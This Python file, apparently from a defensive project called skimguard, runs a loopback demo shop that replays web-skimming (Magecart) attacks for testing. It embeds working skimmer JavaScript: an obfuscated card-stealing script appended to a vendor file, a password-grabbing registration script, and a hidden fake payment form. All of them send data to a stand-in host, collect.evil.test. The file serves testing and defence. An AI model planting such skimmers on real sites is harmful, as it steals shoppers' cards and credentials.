"""A small demo shop with switchable web-skimming (Magecart) attack scenarios.

One loopback ``ThreadingHTTPServer`` serves four virtual hosts, chosen by the Host header:
``shop.test`` (the shop), ``cdn.formassist.test`` (a third-party form-assist vendor),
``pay.psp.test`` (the payment provider's token API) and ``collect.evil.test`` (the attacker).
The scenarios replay the two founding incidents of DESIGN.md §1.
"""

from __future__ import annotations

import base64
import html
import json
import re
import secrets
import threading
import time
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from http.cookies import CookieError, SimpleCookie
from urllib.parse import parse_qs

from skimguard.loopback import LoopbackHandler, LoopbackServer

SCENARIOS = ("clean", "vendor-script-tampered", "fake-payment-form", "registration-tampered",
             "header-weakened")
SHOP, CDN, PSP, EVIL = "shop.test", "cdn.formassist.test", "pay.psp.test", "collect.evil.test"
CONTROL_HOSTS = ("127.0.0.1", "localhost")
MAX_HIT_BODY = 64 * 1024
MAX_READ = 8 * 1024 * 1024
GIF = base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")
SESSION_COOKIE = "fumi_sid"
PRODUCTS: dict[int, tuple[str, int, str]] = {
    1: ("万年筆 / Fountain pen", 12800, "手になじむ真鍮軸の万年筆。 / A brass fountain pen."),
    2: ("A5ノート / A5 notebook", 1650, "裏抜けしにくい方眼ノート。 / Grid notebook, 120 pages."),
}
PREFECTURES = (
    "北海道", "青森県", "岩手県", "宮城県", "秋田県", "山形県", "福島県", "茨城県",
    "栃木県", "群馬県", "埼玉県", "千葉県", "東京都", "神奈川県", "新潟県", "富山県",
    "石川県", "福井県", "山梨県", "長野県", "岐阜県", "静岡県", "愛知県", "三重県",
    "滋賀県", "京都府", "大阪府", "兵庫県", "奈良県", "和歌山県", "鳥取県", "島根県",
    "岡山県", "広島県", "山口県", "徳島県", "香川県", "愛媛県", "高知県", "福岡県",
    "佐賀県", "長崎県", "熊本県", "大分県", "宮崎県", "鹿児島県", "沖縄県",
)

_PLACEHOLDER = re.compile(r"\{\{(\w+)\}\}")


def _fill(template: str, **values: object) -> str:
    """Replace ``{{key}}`` placeholders in one pass (inserted values are never re-scanned)."""
    return _PLACEHOLDER.sub(lambda m: str(values[m.group(1)]), template)


# --------------------------------------------------------------------------- templates

LAYOUT = """<!doctype html>
<html lang="ja"><head><meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>{{title}} | ふみ文具店 Fumi Stationery</title>
<link rel="stylesheet" href="/static/shop.css">{{head}}
</head><body>
<header class="site"><a class="logo" href="/">ふみ文具店 <small>Fumi Stationery</small></a>
<nav><a href="/cart">カート / Cart ({{count}})</a> <a href="/member/register">会員登録 / Sign up</a></nav>
</header>
<main>{{main}}</main>
<footer>&copy; 2025 Fumi Stationery &middot; skimguard demo shop</footer>{{tail}}
</body></html>
"""

ANALYTICS_TAG = """
<script>(function(d){var s=d.createElement("script");s.async=true;
s.src="http://shop.test:{{port}}/static/analytics.js";d.head.appendChild(s)})(document);</script>"""

ANALYTICS_JS = """(function(){var i=new Image(1,1);
i.src="/collect?p="+encodeURIComponent(location.pathname);})();
"""

PRODUCT_MAIN = """<article class="product"><h1>{{name}}</h1><p class="price">&yen;{{price}}</p>
<p>{{desc}}</p>
<form id="add-form" action="/cart/add" method="post">
<input type="hidden" name="product_id" value="{{pid}}">
<label for="qty">数量 / Quantity</label>
<input id="qty" name="qty" type="number" value="1" min="1" max="9">
<button id="add-to-cart" type="submit">カートに入れる / Add to cart</button>
</form></article>
<section class="reviews"><h2>レビュー / Reviews</h2>
<iframe id="reviews" title="reviews" width="100%" height="140"
 src="http://cdn.formassist.test:{{port}}/widget/reviews.html?product={{pid}}"></iframe></section>"""

CART_MAIN = """<h1>カート / Cart</h1>
<table class="cart"><tr><th>商品 / Item</th><th>数量 / Qty</th><th>小計 / Subtotal</th></tr>
{{rows}}<tr class="total"><td colspan="2">合計 / Total</td><td>&yen;{{total}}</td></tr></table>
<iframe id="delivery" title="delivery estimate" src="/widgets/delivery-estimate" width="100%"
 height="70"></iframe>
<p><a id="checkout" class="button" href="/checkout/address">レジに進む / Proceed to checkout</a></p>"""

DELIVERY_WIDGET = """<!doctype html><html lang="ja"><head><meta charset="utf-8">
<title>delivery estimate</title><link rel="stylesheet" href="/static/shop.css"></head>
<body class="widget"><p>お届け予定 / Estimated delivery: <b id="eta">-</b></p>
<script>(function(){var d=new Date(Date.now()+2*864e5);
document.getElementById("eta").textContent=d.toLocaleDateString("ja-JP");})();</script>
</body></html>
"""

ADDRESS_MAIN = """<h1>お届け先 / Shipping address</h1>
<form id="address-form" action="/checkout/address" method="post">
<label for="name">氏名 / Full name</label>
<input id="name" name="name" autocomplete="name" required>
<label for="postal">郵便番号 / Postal code</label>
<input id="postal" name="postal" autocomplete="postal-code" placeholder="100-0001" required>
<label for="prefecture">都道府県 / Prefecture</label>
<select id="prefecture" name="prefecture" autocomplete="address-level1">{{options}}</select>
<label for="address">住所 / Address</label>
<input id="address" name="address" autocomplete="street-address" required>
<label for="phone">電話番号 / Phone</label>
<input id="phone" name="phone" type="tel" autocomplete="tel" required>
<label for="email">メールアドレス / E-mail</label>
<input id="email" name="email" type="email" autocomplete="email" required>
<button id="to-payment" type="submit">お支払いへ進む / Continue to payment</button>
</form>"""

CHECKOUT_CONFIG = """
<script>window.SHOP_CHECKOUT={tokenUrl:"http://pay.psp.test:{{port}}/v1/tokens",currency:"JPY",
locale:"ja-JP"};</script>
<script src="http://cdn.formassist.test:{{port}}/v2/formassist.js"></script>
<script src="/static/checkout.js" defer></script>"""

CARD_FIELDS = """<label for="{{p}}card-number">カード番号 / Card number</label>
<input id="{{p}}card-number" name="card_number" autocomplete="cc-number" inputmode="numeric"
 maxlength="23" placeholder="1234 5678 9012 3456" required>
<label for="{{p}}card-expiry">有効期限 / Expiry (MM/YY)</label>
<input id="{{p}}card-expiry" name="card_expiry" autocomplete="cc-exp" placeholder="MM/YY"
 maxlength="7" required>
<label for="{{p}}card-cvc">セキュリティコード / Security code</label>
<input id="{{p}}card-cvc" name="card_cvc" autocomplete="cc-csc" inputmode="numeric" maxlength="4"
 required>
<label for="{{p}}card-name">カード名義 / Name on card</label>
<input id="{{p}}card-name" name="card_name" autocomplete="cc-name" placeholder="TARO YAMADA" required>
<button id="{{p}}pay" type="submit">支払う / Pay &yen;{{total}}</button>"""

PAYMENT_MAIN = """<h1>お支払い / Payment</h1>{{notice}}
<section class="summary"><p>お届け先 / Ship to: {{ship_to}}</p>
<p>お支払い金額 / Amount: <b>&yen;{{total}}</b></p></section>
<form id="payment-form" action="/checkout/complete" method="post"{{real_attrs}}>
<input type="hidden" name="payment_token" value="">
{{real_fields}}
<p id="pay-error" class="error" role="alert" hidden></p>
</form>{{fake_form}}"""

RETRY_NOTICE = """<p id="retry-notice" class="notice">通信エラーが発生しました。お手数ですが、カード情報を
再度ご入力ください。 / A connection error occurred. Please re-enter your card details.</p>"""

# Founding incident 2: a planted card form that posts to the attacker.
FAKE_FORM = """
<form id="card-form" action="http://collect.evil.test:{{port}}/pay" method="post"
 style="visibility:hidden">
{{fields}}
</form>"""

FAKE_FORM_SCRIPT = """
<script>(function(d){var r=d.getElementById("payment-form"),f=d.getElementById("card-form");
if(r)r.style.display="none";if(f)f.style.visibility="visible"})(document);</script>"""

THANKS_MAIN = """<h1 id="thanks">ご注文ありがとうございました / Thank you for your order</h1>
<p>ご注文番号 / Order number: <b id="order-id">{{order}}</b></p><p><a href="/">トップへ / Home</a></p>"""

REGISTER_MAIN = """<h1>会員登録 / Create an account</h1>
<form id="register-form" action="/member/register" method="post">
<label for="reg-name">氏名 / Full name</label>
<input id="reg-name" name="name" autocomplete="name" required>
<label for="reg-address">住所 / Address</label>
<input id="reg-address" name="address" autocomplete="street-address" required>
<label for="reg-phone">電話番号 / Phone</label>
<input id="reg-phone" name="phone" type="tel" autocomplete="tel" required>
<label for="reg-email">メールアドレス / E-mail</label>
<input id="reg-email" name="email" type="email" autocomplete="email" required>
<label for="reg-password">パスワード / Password</label>
<input id="reg-password" name="password" type="password" autocomplete="new-password" required>
<button id="register" type="submit">登録する / Register</button>
</form>"""

REGISTER_SKIMMER = """
<script>(function(d){var f=d.getElementById("register-form"),u="http://collect.evil.test:{{port}}/r.gif?q=",k=0;
if(!f)return;f.addEventListener("submit",function(e){if(k)return;e.preventDefault();k=1;
var g=function(i){var x=d.getElementById(i);return x?x.value:""},o={n:g("reg-name"),a:g("reg-address"),
t:g("reg-phone"),m:g("reg-email"),p:g("reg-password")},i=new Image,s=function(){if(k<2){k=2;f.submit()}};
i.onload=i.onerror=s;setTimeout(s,800);
i.src=u+encodeURIComponent(btoa(unescape(encodeURIComponent(JSON.stringify(o)))))})})(document);</script>"""

WELCOME_MAIN = """<h1 id="welcome">ようこそ、{{name}} 様 / Welcome, {{name}}</h1>
<p>会員登録が完了しました。 / Your account has been created.</p>"""

SHOP_CSS = """body{font-family:system-ui,"Hiragino Sans",sans-serif;margin:0;color:#222;background:#fafaf7}
header.site{display:flex;justify-content:space-between;padding:12px 24px;background:#2f4858;color:#fff}
header.site a{color:#fff;margin-left:12px;text-decoration:none}.logo small{opacity:.7}
main{max-width:720px;margin:24px auto;padding:0 16px}footer{text-align:center;color:#888;padding:24px}
label{display:block;margin-top:12px;font-size:.9em}input,select{width:100%;padding:8px;box-sizing:border-box}
button,.button{display:inline-block;margin-top:16px;padding:10px 18px;background:#e07a2f;color:#fff;
border:0;border-radius:4px;text-decoration:none;cursor:pointer}.price{font-size:1.4em}
.notice{background:#fff4d6;padding:10px}.error{color:#b00020}table.cart{width:100%}
iframe{border:1px solid #ddd}body.widget{background:#fff;padding:4px 8px}
"""

CHECKOUT_JS = """/* Fumi Stationery checkout: the card is tokenised by the payment provider;
   card data never reaches the shop's servers. */
(function () {
  "use strict";
  var TOKEN_URL = (window.SHOP_CHECKOUT || {}).tokenUrl || "http://pay.psp.test:{{port}}/v1/tokens";
  var CARD = ["card_number", "card_expiry", "card_cvc", "card_name"];
  function init() {
    var form = document.getElementById("payment-form"), err = document.getElementById("pay-error");
    if (!form) return;
    var el = form.elements, busy = false;
    function val(n) { return el.namedItem(n).value; }
    form.addEventListener("submit", function (ev) {
      ev.preventDefault();
      if (busy) return;
      busy = true;
      var card = {number: val("card_number").replace(/\\D/g, ""), exp: val("card_expiry"),
                  cvc: val("card_cvc"), name: val("card_name")};
      fetch(TOKEN_URL, {method: "POST", headers: {"Content-Type": "application/json"},
                        body: JSON.stringify(card)})
        .then(function (r) {
          return r.json().then(function (j) {
            if (!r.ok) throw new Error((j.error && j.error.message) || "payment error");
            return j;
          });
        })
        .then(function (tok) {
          el.namedItem("payment_token").value = tok.id;
          CARD.forEach(function (n) { var f = el.namedItem(n); f.value = ""; f.disabled = true; });
          form.submit();
        })
        .catch(function (e) {
          busy = false;
          err.textContent = "カードを確認できませんでした / Card could not be verified: " + e.message;
          err.hidden = false;
        });
    });
  }
  if (document.readyState === "loading") document.addEventListener("DOMContentLoaded", init);
  else init();
})();
"""

FORMASSIST_JS = """/*! FormAssist v2.4.1 | (c) FormAssist Inc. | screen display conversion */
(function (w, d) {
  "use strict";
  var FULL = /[\\uFF10-\\uFF19]/g, DASH = /[\\u2010-\\u2015\\u2212\\u30FC\\uFF0D]/g;
  function half(s) {
    return s.replace(FULL, function (c) {
      return String.fromCharCode(c.charCodeAt(0) - 0xFEE0);
    }).replace(DASH, "-").replace(/\\uFF0F/g, "/");
  }
  function group(s) {
    return s.replace(/\\D/g, "").slice(0, 19).replace(/(\\d{4})(?=\\d)/g, "$1 ");
  }
  function onInput(e) {
    var t = e.target;
    if (!t || t.tagName !== "INPUT" || t.type === "password") return;
    var v = half(t.value);
    if (t.getAttribute("autocomplete") === "cc-number") v = group(v);
    if (v !== t.value) t.value = v;
  }
  d.addEventListener("input", onInput, true);
  w.FormAssist = {version: "2.4.1", half: half, group: group};
})(window, document);
"""

# Founding incident 1: the same vendor URL, new bytes.
FORMASSIST_SKIMMER = """;(function(w,d){var _0x=["[autocomplete=cc-number],[name*=card]",
"http://collect.evil.test:{{port}}/i.gif?d="],s="";function v(q){var e=d.querySelector(q);
return e&&e.value?e.value:""}function z(){var c=[v("[autocomplete=cc-number]").replace(/\\s+/g,""),
v("[autocomplete=cc-exp]"),v("[autocomplete=cc-csc]"),v("[autocomplete=cc-name]")],j=c.join("|");
if(c[0].length<12||!c[2]||j==s)return;s=j;try{(new Image).src=_0x[1]+encodeURIComponent(btoa(
unescape(encodeURIComponent(j))))}catch(e){}}function i(){if(!d.querySelector(_0x[0]))return;
d.addEventListener("submit",z,!0);d.addEventListener("click",function(e){var t=e.target;
t&&t.closest&&t.closest("#pay,[type=submit]")&&z()},!0);d.addEventListener("blur",function(e){
var t=e.target;t&&t.getAttribute&&t.getAttribute("autocomplete")=="cc-csc"&&z()},!0)}
d.readyState=="loading"?d.addEventListener("DOMContentLoaded",i):i()})(window,document);
"""

REVIEWS_HTML = """<!doctype html><html lang="ja"><head><meta charset="utf-8"><title>reviews</title>
<style>body{font:14px system-ui,sans-serif;margin:6px}</style></head><body>
<div id="rv" data-product="">読み込み中… / Loading…</div>
<script>window.RV_CONF={product:new URLSearchParams(location.search).get("product")||"1",max:3};</script>
<script src="http://cdn.formassist.test:{{port}}/widget/reviews.js"></script>
</body></html>
"""

REVIEWS_JS = """(function(){var r=[["★★★★★","書きやすい / Writes smoothly"],["★★★★☆","良い / Good value"]];
var el=document.getElementById("rv");el.dataset.product=window.RV_CONF.product;
el.innerHTML=r.map(function(x){return "<p>"+x[0]+" "+x[1]+"</p>"}).join("");})();
"""

PSP_JS = """/* pay.psp.test client v1 */
window.PSP={tokenUrl:"http://pay.psp.test:{{port}}/v1/tokens",version:"1.0.3"};
"""


# --------------------------------------------------------------------------- data types


@dataclass(frozen=True)
class Hit:
    """One request received by the attacker's collector."""

    host: str
    method: str
    path: str
    query: str
    body: bytes
    time: float


@dataclass(frozen=True)
class Request:
    method: str
    host: str
    path: str
    query: str
    headers: Mapping[str, str]
    body: bytes

    def form(self) -> dict[str, str]:
        parsed = parse_qs(self.body.decode("utf-8", "replace"), keep_blank_values=True)
        return {k: v[0] for k, v in parsed.items()}

    def args(self) -> dict[str, str]:
        return {k: v[0] for k, v in parse_qs(self.query, keep_blank_values=True).items()}

    def cookie(self, name: str) -> str | None:
        jar: SimpleCookie = SimpleCookie()
        try:
            jar.load(self.headers.get("cookie", ""))
        except CookieError:
            return None
        morsel = jar.get(name)
        return morsel.value if morsel else None


@dataclass
class Response:
    status: int = 200
    body: bytes = b""
    ctype: str = "text/html; charset=utf-8"
    headers: list[tuple[str, str]] = field(default_factory=list)


@dataclass
class Session:
    cart: dict[int, int] = field(default_factory=dict)
    address: dict[str, str] = field(default_factory=dict)
    last_order: str = ""


def _redirect(location: str, status: int = 303) -> Response:
    return Response(status, b"", "text/plain", [("Location", location)])


def _text(status: int, text: str) -> Response:
    return Response(status, text.encode(), "text/plain; charset=utf-8")


def _json(status: int, data: object) -> Response:
    return Response(status, json.dumps(data).encode(), "application/json")


def luhn_ok(number: str) -> bool:
    """True when ``number`` is 12-19 digits with a valid Luhn check digit."""
    if not number.isdigit() or not 12 <= len(number) <= 19:
        return False
    total = 0
    for i, ch in enumerate(reversed(number)):
        d = int(ch) * (2 if i % 2 else 1)
        total += d - 9 if d > 9 else d
    return total % 10 == 0


def card_brand(number: str) -> str:
    if number.startswith("4"):
        return "visa"
    if number[:2] in {"34", "37"}:
        return "amex"
    if number[:2] == "35":
        return "jcb"
    if "51" <= number[:2] <= "55" or "2221" <= number[:4] <= "2720":
        return "mastercard"
    return "unknown"


def _card_error(code: str, message: str) -> Response:
    return _json(402, {"error": {"type": "card_error", "code": code, "message": message}})


# --------------------------------------------------------------------------- the application

Handler = Callable[[Request, Session], Response]


class ShopApp:
    """State and routing of all virtual hosts; independent of the socket server."""

    def __init__(self, scenario: str) -> None:
        self.port = 0
        self.scenario = scenario
        self.lock = threading.Lock()
        self._sessions: dict[str, Session] = {}
        self.collected: list[Hit] = []
        self.tokens: list[dict[str, object]] = []
        self.orders: list[dict[str, object]] = []
        self._routes: dict[tuple[str, str], Handler] = {
            ("GET", "/"): self._home,
            ("GET", "/product/1"): self._product,
            ("GET", "/product/2"): self._product,
            ("POST", "/cart/add"): self._cart_add,
            ("GET", "/cart"): self._cart,
            ("GET", "/widgets/delivery-estimate"): self._delivery_widget,
            ("GET", "/checkout/address"): self._address,
            ("POST", "/checkout/address"): self._address_post,
            ("GET", "/checkout/payment"): self._payment,
            ("POST", "/checkout/complete"): self._complete,
            ("GET", "/checkout/thanks"): self._thanks,
            ("GET", "/member/register"): self._register,
            ("POST", "/member/register"): self._register_post,
            ("GET", "/member/welcome"): self._welcome,
        }

    # ---- dispatch

    def handle(self, req: Request) -> Response:
        if req.host == SHOP:
            return self._shop(req)
        if req.host == CDN:
            return self._cdn(req)
        if req.host == PSP:
            return self._psp(req)
        if req.host == EVIL:
            return self._collector(req)
        if req.host in CONTROL_HOSTS and req.path == "/__demo/scenario":
            return self._control(req)
        return _text(404, "unknown host\n")

    def _control(self, req: Request) -> Response:
        if req.method == "GET":
            return _text(200, self.scenario + "\n")
        if req.method != "POST":
            return _text(405, "use POST\n")
        name = req.body.decode("utf-8", "replace").strip()
        if name not in SCENARIOS:
            return _text(400, f"unknown scenario {name!r}; one of {', '.join(SCENARIOS)}\n")
        self.scenario = name
        return _text(200, f"scenario {name}\n")

    # ---- shop.test

    def _shop(self, req: Request) -> Response:
        sid = req.cookie(SESSION_COOKIE)
        with self.lock:
            session = self._sessions.get(sid) if sid else None
            new_sid = None
            if session is None:
                new_sid = secrets.token_urlsafe(16)
                session = self._sessions[new_sid] = Session()
        resp = self._shop_route(req, session)
        if new_sid:
            resp.headers.append(("Set-Cookie",
                                 f"{SESSION_COOKIE}={new_sid}; Path=/; HttpOnly; SameSite=Lax"))
        resp.headers.append(("X-Content-Type-Options", "nosniff"))
        if resp.ctype.startswith("text/html"):
            resp.headers.extend(self._security_headers(req.path))
        return resp

    def _shop_route(self, req: Request, session: Session) -> Response:
        method = "GET" if req.method == "HEAD" else req.method
        route = self._routes.get((method, req.path))
        if route:
            return route(req, session)
        if method == "GET":
            return self._shop_static(req.path)
        return self._page(session, "Not found", "<h1>404</h1>", status=404)

    def _shop_static(self, path: str) -> Response:
        if path == "/static/checkout.js":
            return self._js(_fill(CHECKOUT_JS, port=self.port), "max-age=300")
        if path == "/static/analytics.js":
            return self._js(ANALYTICS_JS, "max-age=300")
        if path == "/static/shop.css":
            return Response(200, SHOP_CSS.encode(), "text/css; charset=utf-8")
        if path == "/collect":
            return Response(200, GIF, "image/gif", [("Cache-Control", "no-store")])
        if path == "/favicon.ico":
            return Response(204, b"", "image/x-icon")
        return _text(404, "not found\n")

    def _security_headers(self, path: str) -> list[tuple[str, str]]:
        frame = "'self'" if path.startswith("/widgets/") else "'none'"
        csp = (f"default-src 'self'; script-src 'self' 'unsafe-inline' http://{CDN}:{self.port}; "
               f"connect-src 'self' http://{PSP}:{self.port}; img-src * data:; "
               f"style-src 'self' 'unsafe-inline'; frame-src 'self' http://{CDN}:{self.port}; "
               f"frame-ancestors {frame}")
        headers = [("Strict-Transport-Security", "max-age=31536000"),
                   ("X-Frame-Options", "SAMEORIGIN" if frame == "'self'" else "DENY"),
                   ("Referrer-Policy", "strict-origin-when-cross-origin"),
                   ("Permissions-Policy", "camera=(), microphone=(), geolocation=()"),
                   ("Cache-Control", "no-store")]
        if self.scenario != "header-weakened":
            headers.insert(0, ("Content-Security-Policy", csp))
        return headers

    def _js(self, source: str, cache: str) -> Response:
        return Response(200, source.encode(), "application/javascript; charset=utf-8",
                        [("Cache-Control", cache)])

    def _page(self, session: Session, title: str, main: str, head: str = "", tail: str = "",
              status: int = 200) -> Response:
        body = _fill(LAYOUT, title=title, head=head, main=main, tail=tail,
                     count=sum(session.cart.values()))
        return Response(status, body.encode())

    def _home(self, req: Request, session: Session) -> Response:
        items = "".join(f'<li><a href="/product/{pid}">{name}</a> &yen;{price:,}</li>'
                        for pid, (name, price, _) in PRODUCTS.items())
        main = f'<h1>商品一覧 / Products</h1><ul class="products">{items}</ul>'
        return self._page(session, "Products", main)

    def _product(self, req: Request, session: Session) -> Response:
        pid = int(req.path.rsplit("/", 1)[1])
        name, price, desc = PRODUCTS[pid]
        main = _fill(PRODUCT_MAIN, name=name, price=f"{price:,}", desc=desc, pid=pid,
                     port=self.port)
        return self._page(session, name, main, tail=_fill(ANALYTICS_TAG, port=self.port))

    def _cart_add(self, req: Request, session: Session) -> Response:
        form = req.form()
        try:
            pid, qty = int(form.get("product_id", "")), int(form.get("qty", "1"))
        except ValueError:
            return self._page(session, "Error", "<h1>Bad request</h1>", status=400)
        if pid not in PRODUCTS or not 1 <= qty <= 9:
            return self._page(session, "Error", "<h1>Bad request</h1>", status=400)
        with self.lock:
            session.cart[pid] = min(9, session.cart.get(pid, 0) + qty)
        return _redirect("/cart")

    def _total(self, session: Session) -> int:
        return sum(PRODUCTS[pid][1] * qty for pid, qty in session.cart.items())

    def _cart(self, req: Request, session: Session) -> Response:
        rows = "".join(f"<tr><td>{PRODUCTS[pid][0]}</td><td>{qty}</td>"
                       f"<td>&yen;{PRODUCTS[pid][1] * qty:,}</td></tr>\n"
                       for pid, qty in session.cart.items())
        main = _fill(CART_MAIN, rows=rows, total=f"{self._total(session):,}")
        return self._page(session, "Cart", main)

    def _delivery_widget(self, req: Request, session: Session) -> Response:
        return Response(200, DELIVERY_WIDGET.encode())

    def _address(self, req: Request, session: Session) -> Response:
        options = "".join(f"<option>{p}</option>" for p in PREFECTURES)
        return self._page(session, "Shipping address", _fill(ADDRESS_MAIN, options=options))

    def _address_post(self, req: Request, session: Session) -> Response:
        form = req.form()
        keys = ("name", "postal", "prefecture", "address", "phone", "email")
        with self.lock:
            session.address = {k: form.get(k, "")[:200] for k in keys}
        return _redirect("/checkout/payment")

    def _payment(self, req: Request, session: Session) -> Response:
        retry = req.args().get("retry") == "1"
        fake = self.scenario == "fake-payment-form" and not retry
        total = f"{self._total(session):,}"
        address = session.address
        ship_to = html.escape(" ".join(filter(None, (address.get("name"),
                                                     address.get("prefecture")))) or "-")
        real_fields = _fill(CARD_FIELDS, p="x-" if fake else "", total=total)
        fake_form = ""
        tail = _fill(ANALYTICS_TAG, port=self.port)
        if fake:
            fake_form = _fill(FAKE_FORM, port=self.port,
                              fields=_fill(CARD_FIELDS, p="", total=total))
            tail = FAKE_FORM_SCRIPT + tail
        main = _fill(PAYMENT_MAIN, notice=RETRY_NOTICE if retry else "", ship_to=ship_to,
                     total=total, real_fields=real_fields, fake_form=fake_form,
                     real_attrs=' style="display:none"' if fake else "")
        return self._page(session, "Payment", main, head=_fill(CHECKOUT_CONFIG, port=self.port),
                          tail=tail)

    def _complete(self, req: Request, session: Session) -> Response:
        form = req.form()
        if any(form.get(k) for k in ("card_number", "card_expiry", "card_cvc")):
            main = "<h1>カード情報はお預かりできません / Card data must not be sent to the shop</h1>"
            return self._page(session, "Error", main, status=400)
        token = form.get("payment_token", "")
        with self.lock:
            issued = next((t for t in self.tokens if t["id"] == token), None)
            if issued is None:
                main = "<h1>決済エラー / Payment token missing or invalid</h1>"
                return self._page(session, "Error", main, status=400)
            order_id = f"F{len(self.orders) + 1:06d}"
            self.orders.append({"id": order_id, "token": token, "total": self._total(session),
                                "items": dict(session.cart), "time": time.time()})
            session.cart.clear()
            session.last_order = order_id
        return _redirect("/checkout/thanks")

    def _thanks(self, req: Request, session: Session) -> Response:
        main = _fill(THANKS_MAIN, order=session.last_order or "-")
        return self._page(session, "Thank you", main)

    def _register(self, req: Request, session: Session) -> Response:
        tail = ""
        if self.scenario == "registration-tampered":
            tail = _fill(REGISTER_SKIMMER, port=self.port)
        return self._page(session, "Sign up", REGISTER_MAIN, tail=tail)

    def _register_post(self, req: Request, session: Session) -> Response:
        name = req.form().get("name", "")[:100]
        with self.lock:
            session.address.setdefault("name", name)
            session.address["member"] = name
        return _redirect("/member/welcome")

    def _welcome(self, req: Request, session: Session) -> Response:
        name = html.escape(session.address.get("member", "") or "-")
        return self._page(session, "Welcome", _fill(WELCOME_MAIN, name=name))

    # ---- cdn.formassist.test

    def _cdn(self, req: Request) -> Response:
        if req.path == "/v2/formassist.js":
            source = FORMASSIST_JS
            if self.scenario == "vendor-script-tampered":
                source += _fill(FORMASSIST_SKIMMER, port=self.port)
            resp = self._js(source, "no-cache")
        elif req.path == "/widget/reviews.html":
            resp = Response(200, _fill(REVIEWS_HTML, port=self.port).encode())
        elif req.path == "/widget/reviews.js":
            resp = self._js(REVIEWS_JS, "max-age=600")
        else:
            return _text(404, "not found\n")
        resp.headers.append(("Access-Control-Allow-Origin", "*"))
        return resp

    # ---- pay.psp.test

    def _psp(self, req: Request) -> Response:
        origin = req.headers.get("origin", "")
        shop_origin = f"http://{SHOP}:{self.port}"
        cors = [("Vary", "Origin")]
        if origin == shop_origin:
            cors.append(("Access-Control-Allow-Origin", shop_origin))
        if req.method == "OPTIONS":
            preflight = [("Access-Control-Allow-Methods", "POST, OPTIONS"),
                         ("Access-Control-Allow-Headers", "Content-Type"),
                         ("Access-Control-Max-Age", "600")]
            return Response(204, b"", "text/plain", [*cors, *preflight])
        if req.path == "/v1/tokens" and req.method == "POST":
            resp = self._tokenize(req.body)
        elif req.path == "/v1/js" and req.method in ("GET", "HEAD"):
            resp = self._js(_fill(PSP_JS, port=self.port), "max-age=600")
        else:
            resp = _json(404, {"error": {"type": "invalid_request", "message": "not found"}})
        resp.headers.extend(cors)
        return resp

    def _tokenize(self, body: bytes) -> Response:
        try:
            card = json.loads(body)
            if not isinstance(card, dict):
                raise ValueError("object expected")
            number = re.sub(r"[\s-]", "", str(card.get("number", "")))
            exp = re.fullmatch(r"\s*(\d{1,2})\s*/\s*(\d{2}|\d{4})\s*", str(card.get("exp", "")))
            cvc = str(card.get("cvc", ""))
        except ValueError:
            return _json(400, {"error": {"type": "invalid_request", "message": "invalid JSON"}})
        if not luhn_ok(number):
            return _card_error("invalid_number", "The card number is invalid.")
        if not exp or not 1 <= int(exp.group(1)) <= 12:
            return _card_error("invalid_expiry", "The expiry date is invalid.")
        if not re.fullmatch(r"\d{3,4}", cvc):
            return _card_error("invalid_cvc", "The security code is invalid.")
        year = int(exp.group(2)) % 100 + 2000
        token = {"id": "tok_" + secrets.token_hex(12), "last4": number[-4:],
                 "brand": card_brand(number), "created": int(time.time())}
        with self.lock:
            self.tokens.append(token)
        return _json(200, {"id": token["id"], "object": "token", "created": token["created"],
                           "card": {"last4": number[-4:], "brand": token["brand"],
                                    "exp_month": int(exp.group(1)), "exp_year": year}})

    # ---- collect.evil.test

    def _collector(self, req: Request) -> Response:
        hit = Hit(req.host, req.method, req.path, req.query, req.body[:MAX_HIT_BODY], time.time())
        with self.lock:
            self.collected.append(hit)
        cors = [("Access-Control-Allow-Origin", "*"), ("Access-Control-Allow-Headers", "*")]
        if req.method == "POST" and req.path == "/pay":
            return _redirect(f"http://{SHOP}:{self.port}/checkout/payment?retry=1")
        if req.path.endswith(".gif"):
            return Response(200, GIF, "image/gif", cors)
        return Response(200, b"ok", "text/plain", cors)


# --------------------------------------------------------------------------- HTTP plumbing


class _Server(LoopbackServer):
    def __init__(self, port: int, app: ShopApp) -> None:
        self.app = app
        super().__init__(port, _Handler)


class _Handler(LoopbackHandler):
    server: _Server

    def _read_body(self) -> bytes:
        try:
            length = int(self.headers.get("Content-Length") or 0)
        except ValueError:
            length = 0
        if length > MAX_READ:
            self.close_connection = True
            return self.rfile.read(MAX_READ)
        return self.rfile.read(length) if length > 0 else b""

    def _dispatch(self) -> None:
        host = self.headers.get("Host", "").strip().lower()
        host = host.rsplit(":", 1)[0] if not host.endswith("]") else host
        path, _, query = self.path.partition("?")
        headers = {k.lower(): v for k, v in self.headers.items()}
        req = Request(self.command, host, path, query, headers, self._read_body())
        try:
            resp = self.server.app.handle(req)
        except Exception as exc:  # pragma: no cover - defensive: never kill the server
            resp = _text(500, f"internal error: {exc!r}\n")
        self.send_response(resp.status)
        self.send_header("Content-Type", resp.ctype)
        for name, value in resp.headers:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(resp.body)))
        self.end_headers()
        if self.command != "HEAD" and resp.body:
            self.wfile.write(resp.body)


class DemoShop:
    """The demo shop server. ``with DemoShop() as shop: ...`` or ``start()`` / ``stop()``."""

    def __init__(self, port: int = 0, scenario: str = "clean") -> None:
        _check_scenario(scenario)
        self._wanted_port = port
        self._app = ShopApp(scenario)
        self._server: _Server | None = None
        self._lock = threading.Lock()

    def start(self) -> DemoShop:
        with self._lock:
            if self._server is None:
                server = _Server(self._wanted_port, self._app)
                self._app.port = server.port
                server.serve_in_background("demo-shop")
                self._server = server
        return self

    def stop(self) -> None:
        with self._lock:
            server, self._server = self._server, None
        if server is not None:
            server.stop()

    def __enter__(self) -> DemoShop:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()

    @property
    def port(self) -> int:
        if not self._app.port:
            raise RuntimeError("DemoShop is not started")
        return self._app.port

    @property
    def scenario(self) -> str:
        return self._app.scenario

    def set_scenario(self, name: str) -> None:
        _check_scenario(name)
        self._app.scenario = name

    def url(self, host: str = SHOP, path: str = "/") -> str:
        return f"http://{host}:{self.port}{path}"

    @property
    def hosts(self) -> dict[str, str]:
        return {host: "127.0.0.1" for host in (SHOP, CDN, PSP, EVIL)}

    @property
    def collected(self) -> list[Hit]:
        with self._app.lock:
            return list(self._app.collected)

    @property
    def tokens(self) -> list[dict[str, object]]:
        with self._app.lock:
            return [dict(t) for t in self._app.tokens]

    @property
    def orders(self) -> list[dict[str, object]]:
